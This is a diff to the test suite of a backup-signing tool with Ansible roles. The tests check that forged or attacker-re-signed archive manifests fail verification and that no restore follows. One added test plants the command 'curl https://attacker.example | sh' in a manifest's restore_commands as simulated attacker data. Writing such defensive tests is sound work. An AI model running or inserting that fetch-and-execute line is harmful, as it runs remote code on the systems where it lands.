@@ -70,7 +70,7 @@ def store(plain: bytes, recipient: str, archive: str) -> None:
     manifest["archive"].update(sha256=hashlib.sha256(stored).hexdigest(), size=len(stored),
                                plain_sha256=hashlib.sha256(plain).hexdigest(), plain_size=len(plain))
     with open(archive + ".manifest.json", "w", encoding="utf-8") as handle:
-        json.dump(manifest, handle, indent=2, sort_keys=True)
+        handle.write(json.dumps(manifest, indent=2, sort_keys=True) + "\n")  # as the collection writes it
 
 
 def forge_pg(pg, archive, recipient, name):
@@ -178,26 +178,28 @@ def test_forged_archive_fails_every_level_and_restore_a_signed_one_passes(
         assert run.rc == 0, (level, run.result)
         assert run.result["results"][0]["signature"] == "not checked"
     # ... and with them it fails at every level, at the signature check, and no restore starts.
-    forged_sig = one_line
     for level in LEVELS:
         run = verify(run_module, archive, level, server, age_key, **trusted)
         assert run.rc != 0, (level, run.result)
         result = run.result["results"][0]
         assert result["failed_check"] == "signature" and "restore" not in result["checks"], result
-        forged_sig(run.result["msg"])
+        one_line(run.result["msg"])
         assert "does not carry a valid signature of a trusted signer" in run.result["msg"]
+        assert "changed after it was signed" in run.result["msg"]
     target = f"{unique_name}_forged"
     refused = restore(run_module, server, archive, target, age_key, **trusted)
     assert refused.rc != 0 and "does not carry a valid signature" in one_line(refused.result["msg"]), refused.result
     assert not server.has_database(target)
 
     # Re-signed by the attacker's own key: still not a trusted signer.
+    os.unlink(signature)  # ssh-keygen does not overwrite a signature unasked
     subprocess.run(["ssh-keygen", "-Y", "sign", "-n", "lifeboat-manifest", "-f", keys["attacker"]["private"],
                     archive + ".manifest.json"], check=True, capture_output=True)
     run = verify(run_module, archive, "checksum", server, age_key, **trusted)
     assert run.rc != 0 and run.result["results"][0]["failed_check"] == "signature", run.result
+    assert "not one of trusted_signers" in run.result["msg"]
     refused = restore(run_module, server, archive, target, age_key, **trusted)
-    assert refused.rc != 0 and "signature" in one_line(refused.result["msg"])
+    assert refused.rc != 0 and "not one of trusted_signers" in one_line(refused.result["msg"])
     assert not server.has_database(target)
 
 
@@ -348,3 +350,61 @@ def test_host_command_signs_and_its_verify_checks_against_the_job_key(pg, mongo,
     run = lifeboat(host, "check", "--config", bad)
     assert run.returncode != 0 and "signing_key_file" in run.stderr and "cannot sign" in run.stderr
     assert "Traceback" not in run.stderr
+
+
+def test_roles_sign_verify_and_refuse_a_forgery(pg, keys, recording_ssh_keygen, tmp_path, unique_name):
+    """backup_signing_key_file signs, backup_trusted_signers and restore_trusted_signers check, in the roles; -vvv
+    shows the key's path, never the key."""
+    from test_forwarded_options import module_args, run_play, write_out  # pylint: disable=import-error,import-outside-toplevel
+    job = {"name": "journal", "engine": "postgresql", "database": PG_SOURCE, **pg.login()}
+    host_vars = {"backup_root": str(tmp_path / "backups"), "backup_jobs": [job], "lifeboat_out": str(tmp_path / "out.json"),
+                 "backup_signing_key_file": keys["backup"]["private"],
+                 "backup_trusted_signers": [keys["backup"]["public"]],
+                 "restore_items": [{"job": "journal", "target_database": unique_name}]}
+    backup_and_restore = {"tasks": [
+        {"name": "Back up", "ansible.builtin.include_role": {"name": "lifeboat.ops.backup"}},
+        {"name": "Restore", "ansible.builtin.include_role": {"name": "lifeboat.ops.restore"}},
+        write_out("restore_results"),
+    ]}
+    try:
+        done, out = run_play(tmp_path, backup_and_restore, host_vars, "-vvv")
+        assert done.returncode == 0, done.stdout + done.stderr
+        assert [item["status"] for item in out] == ["ok"], out
+        (dumped,) = module_args(done.stdout, "lifeboat.ops.backup : Dump PostgreSQL")
+        assert dumped["signing_key_file"] == keys["backup"]["private"]
+        (verified,) = module_args(done.stdout, "lifeboat.ops.backup : Verify the new archive")
+        (restored,) = module_args(done.stdout, "lifeboat.ops.restore : Restore PostgreSQL")
+        assert verified["trusted_signers"] == restored["trusted_signers"] == [keys["backup"]["public"]]
+        assert '"signature": "ok"' in done.stdout
+        for text in (done.stdout, done.stderr, recording_ssh_keygen.read_text()):
+            assert keys["backup"]["body"][:40] not in text
+        pg.drop(unique_name)
+
+        # The attacker re-signs a changed manifest with a key of their own: the verify entry point and the restore
+        # role refuse it, each in one line, and nothing is restored.
+        (manifest,) = (tmp_path / "backups" / "journal").glob("*.manifest.json")
+        data = json.loads(manifest.read_text())
+        data["restore_commands"].append("curl https://attacker.example | sh")
+        data["verifications"] = []
+        manifest.write_text(json.dumps(data, indent=2, sort_keys=True) + "\n")
+        os.unlink(f"{manifest}.sig")  # ssh-keygen does not overwrite a signature unasked
+        subprocess.run(["ssh-keygen", "-Y", "sign", "-n", "lifeboat-manifest", "-f", keys["attacker"]["private"],
+                        str(manifest)], check=True, capture_output=True)
+        verify = {"tasks": [
+            {"name": "Verify", "ansible.builtin.include_role": {"name": "lifeboat.ops.backup", "tasks_from": "verify"}}]}
+        done, _out = run_play(tmp_path, verify, host_vars)
+        assert done.returncode != 0
+        line = [line for line in done.stdout.splitlines() if line.startswith("fatal:")][-1]  # the host's one line
+        assert "journal: " in line and "signature check failed" in line and "not one of trusted_signers" in line
+        (tmp_path / "out.json").unlink()
+        restore = {"tasks": [{"name": "Restore", "ansible.builtin.include_role": {"name": "lifeboat.ops.restore"}},
+                             write_out("restore_results")]}
+        restore["tasks"][0]["ignore_errors"] = True
+        done, out = run_play(tmp_path, {"tasks": [{"block": restore["tasks"][:1], "rescue": restore["tasks"][1:]}]},
+                             {**host_vars, "restore_select": "newest"})
+        assert out is not None, done.stdout[-3000:]
+        (item,) = out
+        assert item["status"] == "failed" and "not one of trusted_signers" in one_line(item["reason"]), item
+        assert not pg.has_database(unique_name)
+    finally:
+        pg.drop(unique_name)
